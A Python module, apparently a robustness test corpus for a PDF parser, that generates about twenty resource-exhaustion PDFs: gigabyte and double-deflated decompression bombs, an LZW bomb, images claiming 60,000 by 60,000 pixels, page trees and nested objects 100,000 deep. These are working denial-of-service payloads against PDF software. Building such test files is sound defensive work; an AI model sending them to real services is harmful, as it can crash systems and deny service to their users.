"""Attacks by what a small file unpacks to, or how deep it goes: streams, pictures, maps and trees.

In: nothing. Out: `BOMBS`, the bytes of a file by the name of the attack. Next: `pdf.py`.
"""

import zlib
from collections.abc import Callable

from pdf_files.objects import FONT, deflated, page_file, stream, table_page, write



def deep_tree(depth: int) -> bytes:
    """A tree of pages that is a long line."""
    objects = {1: b"<</Type /Catalog /Pages 2 0 R>>"}
    for n in range(2, depth):
        objects[n] = b"<</Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R>>" % (n + 1, max(n - 1, 2))
    objects[depth] = b"<</Type /Page /Parent %d 0 R /MediaBox [0 0 9 9]>>" % (depth - 1)
    return write(objects)


def big_map() -> bytes:
    """A font whose map to Unicode has millions of entries."""
    ranges = b"".join(b"<%04x> <ffff> <0000>\n" % n for n in range(0, 4000))
    cmap = (
        b"/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <ffff> "
        b"endcodespacerange 100 beginbfrange %s endbfrange endcmap"
    ) % ranges
    font = (
        b"<</Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [11 0 R] "
        b"/ToUnicode 12 0 R>>"
    )
    below = (
        b"<</Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo <</Registry (Adobe) "
        b"/Ordering (Identity) /Supplement 0>> /W [0 2000000000 500]>>"
    )
    objects = {10: font, 11: below, 12: deflated(b"", cmap)}
    return page_file(b"BT /F 9 Tf <00010002> Tj ET", b"/Font <</F 10 0 R>>", objects)


def big_picture(kind: bytes, body: bytes) -> bytes:
    """A picture that says it is very large."""
    entries = (
        b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter %s"
    )
    image = stream(entries % kind, body)
    return table_page(b"q 200 0 0 200 50 550 cm /I Do Q", b"/XObject <</I 10 0 R>>", {10: image})


def object_stream_bomb() -> bytes:
    """A stream of objects that unpacks to a gigabyte, as the file is opened."""
    packed = deflated(b"/Type /ObjStm /N 1 /First 4", b"5 0 " + bytes(1 << 30))
    rest = b"2 0 obj <</Type /Catalog /Pages 3 0 R>> endobj trailer <</Root 2 0 R>>"
    return b"%PDF-1.7\n1 0 obj\n" + packed + b"\nendobj\n" + rest


def nested(kind: bytes, depth: int) -> bytes:
    """Arrays or dictionaries inside one another."""
    opening, closing = {b"[": (b"[", b"]"), b"<": (b"<</A ", b">>")}[kind]
    return page_file(b"0 0 m", page=b"/X " + opening * depth + closing * depth)


def many(content: bytes, count: int, resources: bytes = b"") -> bytes:
    """One thing drawn again and again."""
    return page_file(b"", resources, {4: deflated(b"", content * count)})


def packed_twice() -> bytes:
    """Ten gigabytes of content, packed and packed again."""
    data = zlib.compress(zlib.compress(bytes(1 << 30)) * 10)
    return page_file(b"", more={4: stream(b"/Filter [/FlateDecode /FlateDecode]", data)})


def lzw_bomb() -> bytes:
    """Zeros packed by LZW, about a thousandfold."""
    codes = [256, 0, *range(258, 4094)]
    bits = "".join(f"{code:0{width(n)}b}" for n, code in enumerate(codes))
    data = int(bits + "0" * (-len(bits) % 8), 2).to_bytes((len(bits) + 7) // 8, "big")
    return page_file(b"", more={4: stream(b"/Filter /LZWDecode", data * 2000)})


def width(n: int) -> int:
    """Bits of the n-th code."""
    return 9 if n < 254 else 10 if n < 766 else 11 if n < 1790 else 12


def same_page(count: int) -> bytes:
    """One page, listed again and again."""
    kids = b"3 0 R " * count
    objects = {1: b"<</Type /Catalog /Pages 2 0 R>>", 3: b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>>"}
    objects[2] = b"<</Type /Pages /Count %d /Kids [%s]>>" % (count, kids)
    return write(dict(sorted(objects.items())))


JPEG = b"\xff\xd8\xff\xc0\x00\x11\x08\xea\x60\xea\x60\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
JPX = b"\x00\x00\x00\x0cjP  \r\n\x87\n"
JBIG2 = b"\x00\x00\x00\x00\x30\x00\x01\x00\x00\x00\x13\x00\x00\xea\x60\x00\x00\xea\x60"
STRINGS = b"BT /F 9 Tf " + b"(" * 100_000 + b")" * 100_000 + b" Tj ET"
BOMBS: dict[str, Callable[[], bytes]] = {
    "page tree 5,000 deep": lambda: deep_tree(5_000),
    "map of 260 million": big_map,
    "picture of 60,000 x 60,000, raw": lambda: big_picture(b"/FlateDecode", zlib.compress(bytes(1 << 20))),
    "picture of 60,000 x 60,000, JPEG": lambda: big_picture(b"/DCTDecode", JPEG + bytes(999)),
    "picture of 60,000 x 60,000, JPX": lambda: big_picture(b"/JPXDecode", JPX + bytes(999)),
    "picture of 60,000 x 60,000, JBIG2": lambda: big_picture(b"/JBIG2Decode", JBIG2 + bytes(99)),
    "picture of 60,000 x 60,000, fax": lambda: big_picture(b"/CCITTFaxDecode", bytes(9999)),
    "object stream of a gigabyte": object_stream_bomb,
    "content of 200 MB": lambda: many(b"0 0 m ", 33 << 20),
    "content of 120 MB": lambda: many(b"0 0 m 1 1 l S ", 8 << 20),
    "content of 120 MB of text": lambda: many(b"BT /F 9 Tf (12) Tj ET ", 5 << 20, FONT),
    "content of 60 MB of saves": lambda: many(b"q ", 30 << 20),
    "content of 60 MB of rules": lambda: many(b"1 1 500 0.5 re f ", 3 << 20),
    "content packed twice, 10 GB": packed_twice,
    "content packed by LZW": lzw_bomb,
    "arrays 100,000 deep": lambda: nested(b"[", 100_000),
    "dictionaries 100,000 deep": lambda: nested(b"<", 100_000),
    "strings 100,000 deep": lambda: page_file(STRINGS, FONT),
    "a page listed 100,000 times": lambda: same_page(100_000),
}
